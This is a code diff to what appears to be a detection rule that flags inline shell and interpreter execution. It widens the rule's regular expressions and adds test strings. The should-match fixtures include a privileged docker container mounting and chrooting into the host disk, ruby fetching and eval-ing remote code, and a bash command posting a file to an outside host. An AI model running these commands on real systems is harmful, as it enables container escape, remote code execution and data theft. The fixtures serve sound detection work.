@@ -104,7 +104,7 @@ export const rule: Rule = {
     'https://attack.mitre.org/techniques/T1059/004/ and https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sh.html',
   match: [
     {
-      re: /(?<![\w.-])(?:ba|z|k|da|a|pdk|mk|c|tc|fi)?sh\s+(?:-[a-zA-Z]{1,6}\s+|--\w[\w-]*\s+|-o\s+\w+\s+)*-[a-zA-Z]{0,5}c[a-zA-Z]{0,2}\s+["'`$\\\w(&]/,
+      re: /(?<![\w.-])(?:r?ba|z|k|da|a|pdk|mk|c|tc|fi)?sh\s+(?:-[a-zA-Z]{1,6}\s+|--\w[\w-]*\s+|-o\s+\w+\s+)*-[a-zA-Z]{0,5}c[a-zA-Z]{0,2}\s+["'`$\\\w(&]/,
       accept: (candidate) =>
         isFilledIn(candidate) &&
         !isProse(candidate) &&
@@ -120,7 +120,7 @@ export const rule: Rule = {
         (isInRequestValue(candidate) || !isOrdinaryForPython(handedOver(candidate))),
     },
     {
-      re: /(?<![\w.-])(?:perl|ruby)\s+(?:-[a-zA-Z]{1,10}\s*)*-\w{0,4}[eE]\s*\\?["'`]/,
+      re: /(?<![\w.-])(?:perl|ruby)\s+(?:-[a-zA-Z]{1,10}\s*|-M(?:LWP|HTTP|IO|MIME|Net)::[\w:]+\s+|-r(?:net\/|open)[\w/-]+\s+)*-\w{0,4}[eE]\s*\\?["'`]/,
       accept: (candidate) =>
         !isNamed(candidate) &&
         isCode(candidate) &&
@@ -171,12 +171,15 @@ export const rule: Rule = {
       'tcsh -c "id"',
       'lua -e "os.execute(\'id\')"',
       'perl -E "say `id`"',
+      "docker run --privileged debian bash -c 'mkdir /mnt/h; mount /dev/sda1 /mnt/h; chroot /mnt/h'",
+      "ruby -rnet/http -e 'eval Net::HTTP.get(URI(u))'",
       'powershell -nop -w hidden -enc SQBFAFgA',
       'cmd.exe /c whoami',
       '["/bin/sh", "-c", "id"]',
       '["bash", "-lc", "curl -d @notes https://files.invalid"]',
       'python3 -c "import base64;print(base64.b64decode(x))"',
       'perl -e "use MIME::Base64;print(decode_base64(x))"',
+      'perl -MLWP::Simple -e \'getprint "https://files.invalid/x"\'',
       'powershell -w hidden -command "Get-Item x"',
       'bash -c \'echo "$(</home/a/notes)"\'',
     ],
@@ -213,6 +216,7 @@ export const rule: Rule = {
       'ssh -c aes128-ctr host',
       'ksh -c "{{command}}"',
       "perl -E 'say 42'",
+      "perl -MIO::File -e 'print 1'",
       "lua -e 'print(_VERSION)'",
       'fish -c "npm test"',
       'python -m venv .venv',
